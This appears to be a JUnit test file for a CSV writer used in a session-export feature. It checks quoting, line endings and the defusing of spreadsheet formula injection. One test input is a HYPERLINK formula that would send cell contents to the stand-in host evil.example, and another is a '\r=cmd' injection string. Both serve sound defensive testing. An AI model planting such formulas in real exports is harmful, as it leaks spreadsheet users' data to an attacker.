package com.activesessions.export.interfaces.web;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.StringWriter;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvWriterTest {

    @Test
    void plainFieldsAreWrittenAsTheyAreAndLinesEndWithCrLf() {
        assertEquals("When,Signed in,192.0.2.1\r\n", csv(List.of("When", "Signed in", "192.0.2.1")));
    }

    @Test
    void commasQuotesAndLineBreaksAreQuotedWithQuotesDoubled() {
        assertEquals(
                "\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\"\r\n",
                csv(List.of("a,b", "say \"hi\"", "two\nlines", "cr\rhere")));
    }

    @Test
    void aFormulaBecomesTextWithALeadingApostrophe() {
        assertEquals("'=1+1,'+1,'-1,'@SUM(A1),'\tx\r\n", csv(List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx")));
    }

    @Test
    void aHyperlinkFormulaWithQuotesAndCommasIsDefusedAndQuoted() {
        assertEquals(
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r\n",
                csv(List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")));
    }

    @Test
    void aCarriageReturnFirstIsDefusedAndQuoted() {
        assertEquals("\"'\r=cmd\"\r\n", csv(List.of("\r=cmd")));
    }

    @Test
    void nullAndEmptyFieldsAreEmpty() {
        assertEquals(",,x\r\n", csv(Arrays.asList(null, "", "x")));
    }

    private static String csv(List<String> fields) {
        StringWriter out = new StringWriter();
        new CsvWriter(out).row(fields);
        return out.toString();
    }
}
